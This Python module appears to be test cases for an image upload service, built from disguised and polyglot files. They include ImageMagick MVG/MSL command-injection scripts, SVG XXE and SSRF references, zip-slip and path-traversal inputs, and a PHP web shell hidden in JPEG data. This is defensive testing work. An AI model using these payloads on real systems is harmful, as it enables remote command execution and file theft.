"""What only looks like a picture, what is two things at once, and pictures that ask for files, pages and programs."""

import gzip
import io
import zipfile
import zlib
from base64 import b64encode
from itertools import cycle, islice

from support.originals import animation, picture
from system.hostile.case import NOT_AN_IMAGE, SHOWN, SHOWN_OR_NOT, Case
from system.hostile.good import good
from system.hostile.parts import jpeg_with, png_with, riff_chunks, svg, webp

NAMES = ("jpg", "png", "gif", "webp", "avif", "tiff", "svg", "heic", "mvg", "msl", "txt", "svgz")
QUICK = ("jpg", "svg", "mvg", "msl")
OTHERS = (415, 422)


def _mvg(bait):
    return f"""push graphic-context
viewbox 0 0 640 480
image over 0,0 0,0 'url({bait.url}/mvg)'
image over 0,0 64,48 'text:{bait.text}'
image over 0,0 64,48 '{bait.picture}'
fill 'url({bait.url}/x.jpg"|touch "{bait.folder}/owned)'
pop graphic-context
""".encode()


def _msl(bait):
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<image><read filename="{bait.picture}"/><read filename="{bait.url}/msl"/><get width="w"/>
<write filename="{bait.folder}/owned.png"/><svg width="9" height="9"/></image>
""".encode()


SCRIPTS = {
    "an MVG": _mvg,
    "an MSL": _msl,
    "an MVG in an SVG's name": lambda bait: b"<!--<svg>-->\n" + _mvg(bait),
    "a name of a file": lambda bait: f"text:{bait.text}".encode(),
    "a name that is read in": lambda bait: f"@{bait.text}".encode(),
    "a web page": lambda bait: f"<!DOCTYPE html><html><img src='{bait.url}/html'><svg></svg></html>".encode(),
    "a PostScript": lambda bait: f"%!PS-Adobe-3.0 EPSF-3.0\n({bait.text}) (r) file\n%%BoundingBox: 0 0 9 9".encode(),
    "a PDF": lambda bait: b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(1)>>>>endobj\n",
    "a PHP": lambda bait: f"<?php readfile('{bait.text}'); ?>".encode(),
    "a shell script": lambda bait: f"#!/bin/sh\ncat {bait.text}\n".encode(),
    "a program": lambda bait: b"\x7fELF\2\1\1" + bytes(400),
    "a playlist": lambda bait: f"#EXTM3U\n#EXTINF:1\nconcat:{bait.url}/m3u|file://{bait.text}\n".encode(),
    "an XPM": lambda bait: b'/* XPM */\nstatic char *x[] = {"1 1 1 1", "a c red", "a"};',
    "a PPM": lambda bait: b"P6 2 2 255 " + bytes(12),
    "a BMP": lambda bait: picture(form="BMP"),
    "an ICO": lambda bait: picture((32, 32), form="ICO"),
    "a JPEG 2000": lambda bait: picture(form="JPEG2000"),
    "a PSD": lambda bait: b"8BPS\0\1" + bytes(6) + b"\0\3\0\0\0\x10\0\0\0\x10\0\x08\0\3" + bytes(900),
    "a DICOM": lambda bait: bytes(128) + b"DICM" + bytes(200),
    "a film": lambda bait: b"\0\0\0\x20ftypisom\0\0\2\0isomiso2avc1mp41" + bytes(200),
    "a packed SVG": lambda bait: gzip.compress(_linked(bait.picture.as_uri())),
    "a packed file": lambda bait: _zip(bait),
    "a BigTIFF": lambda bait: b"II+\0\x08\0\0\0" + bytes(90),
    "a vid": lambda bait: f"vid:{bait.folder}/*".encode(),
    "a label": lambda bait: f"label:@{bait.text}".encode(),
    "a pipe": lambda bait: f"|cat {bait.text} > {bait.folder}/owned".encode(),
    "a URL": lambda bait: f"{bait.url}/url.png".encode(),
}


def _zip(bait):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../owned", bytes(10**6))
    return file.getvalue()


DISGUISED = tuple(
    Case(f"{what}, called .{name}", OTHERS, lambda bait, draw=draw: draw(bait), f"cat.{name}", name not in QUICK)
    for what, draw in SCRIPTS.items()
    for name in NAMES
)


def _linked(link, inside='<image width="64" height="48" xlink:href="{0}"/>'):
    return svg(inside.format(link))


def _xml_entity(link):
    doctype = f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{link}">]>'
    return svg('<text y="20">&a;</text>', before=f'<?xml version="1.0"?>{doctype}')


def _parameter_entity(link):
    doctype = f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{link}"> %a;]>'
    return svg("<rect/>", before=f'<?xml version="1.0"?>{doctype}')


def _external_subset(link):
    return svg("<rect/>", before=f'<?xml version="1.0"?><!DOCTYPE svg SYSTEM "{link}">')


def _style_sheet(link):
    return svg("<rect/>", before=f'<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{link}"?>')


_EMBEDDED = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48"><image width="64" height="48" href="{0}"/></svg>'
)

REACHES = {
    "image": _linked,
    "image without xlink": lambda link: _linked(link, '<image width="64" height="48" href="{0}"/>'),
    "use": lambda link: _linked(link, '<use width="64" height="48" xlink:href="{0}#a"/>'),
    "feImage": lambda link: _linked(
        link, '<filter id="f"><feImage xlink:href="{0}"/></filter><rect width="64" height="48" filter="url(#f)"/>'
    ),
    "xi:include": lambda link: _linked(link, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{0}"/>'),
    "xi:include as text": lambda link: _linked(
        link, '<text y="20"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{0}"/></text>'
    ),
    "@import": lambda link: _linked(link, "<style>@import url('{0}');</style><rect/>"),
    "a font": lambda link: _linked(
        link, "<style>@font-face{{font-family:a;src:url('{0}')}}</style><text y='20' font-family='a'>a</text>"
    ),
    "a fill": lambda link: _linked(link, '<rect width="64" height="48" fill="url({0}#a)"/>'),
    "a mask": lambda link: _linked(link, '<rect width="64" height="48" mask="url({0}#a)"/>'),
    "a cursor": lambda link: _linked(link, "<rect width='64' height='48' style='cursor:url({0})'/>"),
    "foreignObject": lambda link: _linked(
        link,
        '<foreignObject width="64" height="48"><img xmlns="http://www.w3.org/1999/xhtml" src="{0}"/>'
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="{0}"/></foreignObject>',
    ),
    "a script": lambda link: _linked(link, '<script xlink:href="{0}"/><script>fetch("{0}")</script>'),
    "an entity": _xml_entity,
    "a parameter entity": _parameter_entity,
    "an external subset": _external_subset,
    "a style sheet": _style_sheet,
    "a base": lambda link: svg(
        '<image width="64" height="48" xlink:href="canary.png"/>', f'width="64" height="48" xml:base="{link}"'
    ),
    "a picture in a picture": lambda link: _linked(
        "data:image/svg+xml;base64," + b64encode(_EMBEDDED.format(link).encode()).decode()
    ),
}

TARGETS = {
    "a file": lambda bait: str(bait.picture),
    "a file's URL": lambda bait: bait.picture.as_uri(),
    "a text's URL": lambda bait: bait.text.as_uri(),
    "a page": lambda bait: f"{bait.url}/svg",
    "a page by name": lambda bait: f"{bait.url}/svg.png".replace("127.0.0.1", "localhost"),
    "a coder": lambda bait: f"text:{bait.text}",
    "the way up": lambda bait: f"../../../../../../../..{bait.picture}",
}

REFERENCES = tuple(
    Case(
        f"an SVG whose {reach} is {target}",
        SHOWN_OR_NOT,
        lambda bait, made=(draw, link): made[0](made[1](bait)),
        "cat.svg",
    )
    for reach, draw in REACHES.items()
    for target, link in TARGETS.items()
) + tuple(
    Case(
        f"an SVG whose {reach} is {target}, called .{name}",
        SHOWN_OR_NOT,
        lambda bait, made=(draw, link): made[0](made[1](bait)),
        f"cat.{name}",
        name not in QUICK,
    )
    for number, (reach, draw) in enumerate(REACHES.items())
    for name, (target, link) in zip(NAMES, islice(cycle(TARGETS.items()), number, None), strict=False)
)


def _texts(keyword, link):
    raw = keyword + b"\0" + link
    packed = keyword + b"\0\0" + zlib.compress(link)
    international = keyword + b"\0\0\0\0\0" + link
    return {"tEXt": raw, "zTXt": packed, "iTXt": international}


KEYWORDS = (b"profile", b"Profile", b"Raw profile type exif", b"Raw profile type icc", b"url", b"caption", b"label")

NAMED = tuple(
    Case(
        f"a PNG whose {chunk} {keyword.decode()} names {target}",
        SHOWN,
        lambda bait, made=(chunk, keyword, link): png_with(
            picture(form="PNG"), (made[0].encode(), _texts(made[1], made[2](bait).encode())[made[0]])
        ),
    )
    for chunk in ("tEXt", "zTXt", "iTXt")
    for keyword in KEYWORDS
    for target, link in (*list(TARGETS.items())[2:4], ("a path", lambda bait: str(bait.text)))
)


def _behind(body, more):
    return body + more


_HTML = b"<html><body><script>alert(1)</script></body></html>"
_CODE = b"<?php system($_GET['c']); ?>"

POLYGLOTS = (
    Case("a GIF that is an archive, too", SHOWN, lambda bait: _behind(animation(), _zip(bait)), "cat.gif"),
    Case("a GIF that is a script, too", SHOWN_OR_NOT, lambda _: b"GIF89a/*" + animation()[8:] + b"*/=1;alert(1)"),
    Case("a JPEG that is an archive, too", SHOWN, lambda bait: _behind(picture(), _zip(bait))),
    Case("a JPEG with a PHP in its comment", SHOWN, lambda _: jpeg_with(picture(), (0xFE, _CODE)), "cat.php.jpg"),
    Case("a JPEG with a PHP behind it", SHOWN, lambda _: _behind(picture(), _CODE), "cat.php"),
    Case(
        "a JPEG that is a PDF, too",
        SHOWN,
        lambda bait: jpeg_with(picture(), (0xFE, SCRIPTS["a PDF"](bait) + b"stream\n")),
        "cat.pdf",
    ),
    Case("a JPEG that is a web page, too", SHOWN, lambda _: jpeg_with(picture(), (0xFE, _HTML)), "cat.html"),
    Case(
        "a PNG that is a web page, too",
        SHOWN,
        lambda _: png_with(picture(form="PNG"), (b"tEXt", b"a\0" + _HTML)),
        "cat.html",
    ),
    Case("a PNG with a web page behind it", SHOWN, lambda _: _behind(picture(form="PNG"), _HTML)),
    Case("a PNG in a PNG", SHOWN, lambda _: _behind(picture(form="PNG"), picture(form="PNG"))),
    Case(
        "a WebP with a program in it",
        SHOWN,
        lambda _: webp(*riff_chunks(good()["webp"]["alpha"]), (b"ELF ", b"\x7fELF" + bytes(100))),
    ),
    Case("a TIFF that is a DNG in its name", SHOWN, lambda _: good()["tiff"]["plain"], "cat.dng"),
    Case("a PDF with a JPEG in it", NOT_AN_IMAGE, lambda bait: _behind(SCRIPTS["a PDF"](bait), picture())),
    Case("an archive with a GIF behind it", NOT_AN_IMAGE, lambda bait: _behind(_zip(bait), animation())),
    Case("a space, then a JPEG", NOT_AN_IMAGE, lambda _: b" " + picture()),
    Case("a byte order mark, then a PNG", NOT_AN_IMAGE, lambda _: b"\xef\xbb\xbf" + picture(form="PNG")),
    Case("a PNG with a JPEG's first bytes", (415, 422), lambda _: b"\xff\xd8\xff" + picture(form="PNG")[3:]),
    Case("a JPEG with a PNG's first bytes", (415, 422), lambda _: b"\x89PNG\r\n\x1a\n" + picture()[8:]),
    Case("a WebP whose picture is a PNG", (415, 422), lambda _: webp((b"VP8 ", picture(form="PNG")))),
    Case("an SVG in UTF-16", OTHERS, lambda bait: _linked(bait.picture).decode().encode("utf-16")),
    Case(
        "an SVG in UTF-7",
        SHOWN_OR_NOT,
        lambda bait: _linked(bait.picture.as_uri()).replace(b"<svg", b'<?xml version="1.0" encoding="UTF-7"?><svg', 1),
    ),
    Case(
        "an SVG that hides its links behind entities",
        SHOWN_OR_NOT,
        lambda bait: svg(
            '<image width="64" height="48" xlink:href="&a;"/>',
            before=f'<!DOCTYPE svg [<!ENTITY a "{bait.picture.as_uri()}">]>',
        ),
    ),
    *(
        Case(f"a {form} called .{name}", SHOWN, lambda _, form=form: good()[form]["plain"], f"cat.{name}")
        for form, name in zip(("jpeg", "png", "gif", "webp", "avif", "tiff", "svg", "heic"), NAMES[1:], strict=False)
    ),
)

CASES = (*DISGUISED, *REFERENCES, *NAMED, *POLYGLOTS)
